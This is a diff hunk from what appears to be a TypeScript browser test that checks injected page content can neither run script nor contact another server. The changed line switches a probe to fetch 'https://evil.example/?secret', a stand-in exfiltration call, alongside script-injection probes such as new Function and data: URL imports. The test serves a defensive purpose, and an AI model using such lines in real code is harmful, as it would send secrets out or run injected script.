@@ -26,7 +26,7 @@ test("what gets into the page all the same runs no script and asks no other serv
       own: () => Object.assign(script(), { src: "/config.json" }),
       evaluated: () => new Function("window.ran = true")(),
       node: () => document.body.appendChild(document.createElement("script")).append("window.ran = true"),
-      asked: () => fetch("http://127.0.0.1:9/?secret"),
+      asked: () => fetch("https://evil.example/?secret"),
       imported: () => import("data:text/javascript,window.ran=true" as string),
     };
     const outcomes: Record<string, string> = {};
